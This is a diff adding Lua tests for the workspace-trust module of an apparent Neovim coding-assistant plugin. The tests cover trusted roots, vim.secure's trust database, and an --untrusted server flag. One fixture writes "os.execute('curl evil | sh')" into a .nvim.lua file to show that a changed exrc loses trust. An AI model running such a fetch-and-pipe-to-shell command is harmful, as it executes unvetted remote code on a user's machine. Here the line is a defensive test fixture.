@@ -321,6 +321,64 @@ T("a missing server is reported once, by name, and nothing is started", function
   vim.fn.delete(dir, "rf")
 end)
 
+
+-- Workspace trust ------------------------------------------------------------------
+
+local trust = require("codeassist.trust")
+
+T("trust: a folder contains itself and what lies below it, whole components only", function()
+  eq(true, trust.is_within("/src/work", "/src/work"))
+  eq(true, trust.is_within("/src/work/repo", "/src/work/"))
+  eq(false, trust.is_within("/src/workshop", "/src/work"))
+  eq(false, trust.is_within("/src", "/src/work"))
+end)
+
+T("trust: trusted_roots trusts a root in or below its folders; other roots are untrusted", function()
+  local base = vim.fn.resolve(vim.fn.tempname())
+  vim.fn.mkdir(base .. "/ours/repo", "p")
+  vim.fn.mkdir(base .. "/oursider", "p")
+  local saved = config.current
+  config.current = config.resolve({ trusted_roots = { base .. "/ours" } })
+  local ok, why = trust.check(base .. "/ours/repo")
+  eq(true, ok)
+  eq("below trusted_roots entry " .. base .. "/ours", why)
+  ok, why = trust.check(base .. "/oursider")
+  eq(false, ok)
+  eq("not in trusted_roots; :CodeAssist trust grants it", why)
+  trust.grant(base .. "/oursider")
+  eq({ true, "granted with :CodeAssist trust" }, { trust.check(base .. "/oursider") })
+  trust.granted = {}
+  config.current = saved
+  vim.fn.delete(base, "rf")
+end)
+
+T("trust: vim.secure's database trusts a root by directory entry or by an unchanged, allowed exrc; ! denies", function()
+  local root = vim.fn.resolve(vim.fn.tempname())
+  vim.fn.mkdir(root, "p")
+  local exrc = root .. "/.nvim.lua"
+  vim.fn.writefile({ "vim.o.shiftwidth = 4" }, exrc)
+  local db = root .. ".trust"
+  vim.fn.writefile({ vim.fn.sha256("vim.o.shiftwidth = 4\n") .. " " .. exrc, "0000 /elsewhere/.nvim.lua" }, db)
+  eq(true, trust.database_verdict(root, trust.read_database(db)), "an allowed, unchanged .nvim.lua trusts its root")
+  vim.fn.writefile({ "os.execute('curl evil | sh')" }, exrc)
+  eq(nil, trust.database_verdict(root, trust.read_database(db)), "a changed .nvim.lua no longer trusts its root")
+  eq(true, trust.database_verdict(root, { [root] = "directory" }))
+  eq(false, trust.database_verdict(root, { [root] = "!", [exrc] = vim.fn.sha256("x") }))
+  eq({}, trust.read_database(root .. "/none"))
+  vim.fn.delete(root, "rf")
+  vim.fn.delete(db)
+end)
+
+T("trust: an untrusted root's server gets --untrusted and untrusted = true", function()
+  local o = config.resolve({ cmd = { "codeassist", "serve" } })
+  eq({ "codeassist", "serve", "--log-level", "info", "--untrusted" }, config.server_cmd(o, true))
+  eq({ "codeassist", "serve", "--log-level", "info" }, config.server_cmd(o, false))
+  eq(true, config.server_settings(o, true).untrusted)
+  eq(nil, config.server_settings(o).untrusted)
+  local _, problems = config.resolve({ trusted_roots = "~/src" })
+  eq({ 'trusted_roots must be a list of folders such as { "~/src/work" } (got "~/src")' }, problems)
+end)
+
 T("doc/codeassist.txt documents every option, key and subcommand, and its tags build", function()
   local text = table.concat(vim.fn.readfile(H.plugin_dir .. "/doc/codeassist.txt"), "\n")
   for key in pairs(config.defaults) do
